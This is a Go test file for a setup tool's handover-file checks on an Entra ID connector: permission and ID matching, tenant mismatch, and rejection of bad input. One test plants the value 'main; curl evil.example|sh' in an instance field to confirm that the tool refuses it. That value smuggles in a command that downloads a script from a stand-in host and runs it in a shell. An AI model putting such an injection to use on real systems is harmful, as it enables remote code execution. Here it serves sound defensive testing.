package setup

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gatehouse/setup/definition"
	"gatehouse/setup/entra"
	"gatehouse/setup/plan"
	"gatehouse/setup/problem"
	"gatehouse/setup/report"
)

const (
	fileTenant    = "7c9e0000-0000-4000-8000-0000000041d2"
	fileClient    = "4f6a0000-0000-4000-8000-0000000090c1"
	filePrincipal = "91be0000-0000-4000-8000-000000007a02"
	readUsers     = "df021288-bdef-4463-88db-98f22de89214"
	readGroups    = "5b567255-7703-4780-807c-7be8301ae99b"
)

// handedOver is a file and the connector that it describes.
func handedOver() (*report.HandoverFile, View) {
	wanted := func(name, id string) plan.Wanted {
		return plan.Wanted{Permission: definition.Permission{Resource: entra.GraphAppID, Name: name, Kind: entra.ApplicationPermission}, ID: id}
	}
	listed := func(name, id string) report.HandoverPermission {
		return report.HandoverPermission{ResourceAppID: entra.GraphAppID, ID: id, Name: name, Kind: entra.ApplicationPermission}
	}
	file := &report.HandoverFile{
		Format: report.HandoverFormat, Version: report.HandoverVersion, TenantID: fileTenant, Domain: "contoso.example", Cloud: "global", Definition: "snow-atlas",
		ClientID: fileClient, ObjectID: filePrincipal, PrincipalID: filePrincipal,
		Permissions: []report.HandoverPermission{listed("Group.Read.All", readGroups), listed("User.Read.All", readUsers)},
	}
	view := View{
		Live:   entra.Connector{App: &entra.Application{AppID: fileClient}, Principal: &entra.ServicePrincipal{ObjectID: filePrincipal}},
		Wanted: []plan.Wanted{wanted("User.Read.All", readUsers), wanted("Group.Read.All", readGroups)},
	}
	return file, view
}

func TestAHandOverFileFitsOnlyTheConnectorAndListThatItNames(t *testing.T) {
	for name, c := range map[string]struct {
		change func(*report.HandoverFile, *View)
		why    string
	}{
		"as it was written":                {func(*report.HandoverFile, *View) {}, ""},
		"ids in capitals":                  {func(f *report.HandoverFile, _ *View) { f.ClientID = strings.ToUpper(f.ClientID) }, ""},
		"names are for people, ids decide": {func(f *report.HandoverFile, _ *View) { f.Permissions[0].Name = "Harmless.Read" }, ""},
		"another permission": {func(f *report.HandoverFile, _ *View) {
			f.Permissions[0].ID = "19dbc75e-c2e2-444c-a770-ec69d8559fc7"
		}, "permissions"},
		"one more":          {func(f *report.HandoverFile, v *View) { v.Wanted = v.Wanted[:1] }, "permissions"},
		"one less":          {func(f *report.HandoverFile, _ *View) { f.Permissions = f.Permissions[:1] }, "permissions"},
		"another kind":      {func(f *report.HandoverFile, _ *View) { f.Permissions[1].Kind = entra.DelegatedPermission }, "permissions"},
		"another app":       {func(f *report.HandoverFile, _ *View) { f.ClientID = filePrincipal }, "another app"},
		"another principal": {func(f *report.HandoverFile, _ *View) { f.PrincipalID = fileClient }, "another app"},
		"nothing created":   {func(_ *report.HandoverFile, v *View) { v.Live = entra.Connector{} }, "no such connector"},
	} {
		f, v := handedOver()
		c.change(f, &v)
		err := matchHandover(f, v)
		var p *problem.Problem
		switch {
		case c.why == "" && err != nil:
			t.Errorf("%s: %v", name, err)
		case c.why != "" && (!errors.As(err, &p) || p.Kind != problem.Refused || !strings.Contains(p.Why, c.why) || p.Next == ""):
			t.Errorf("%s: %+v", name, err)
		}
	}
}

func TestAHandOverFileOfAnotherTenantOrNoneIsRefusedBeforeAnythingIsRead(t *testing.T) {
	f, _ := handedOver()
	data, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "handover.json")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	other := filepath.Join(t.TempDir(), "sample.json")
	if err := os.WriteFile(other, []byte(`{"value":[]}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s := &Session{me: entra.Identity{Tenant: entra.Tenant{ID: "00000000-0000-4000-8000-000000000001", DefaultDomain: "fabrikam.example"}}}
	for path, want := range map[string]problem.Kind{file: problem.Refused, other: problem.BadInput, file + ".gone": problem.BadInput} {
		_, err := s.OpenHandover(t.Context(), path)
		var p *problem.Problem
		if !errors.As(err, &p) || p.Kind != want || p.Next == "" {
			t.Errorf("%s: %+v", filepath.Base(path), err)
		}
		if want == problem.Refused && (!strings.Contains(p.What, "contoso.example") || !strings.Contains(p.Why, "fabrikam.example")) {
			t.Errorf("neither tenant is named: %q %q", p.What, p.Why)
		}
	}
}

func TestAHandOverFileWithAnInstanceThatNobodyCanNameIsRefusedBeforeAnythingIsRead(t *testing.T) {
	f, _ := handedOver()
	f.Instance = "main; curl evil.example|sh"
	data, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "handover.json")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	s := signedIn(&definition.Definition{ID: "snow-atlas"})
	_, err = s.OpenHandover(t.Context(), file)
	var p *problem.Problem
	if !errors.As(err, &p) || p.Kind != problem.BadInput {
		t.Errorf("%v", err)
	}
}
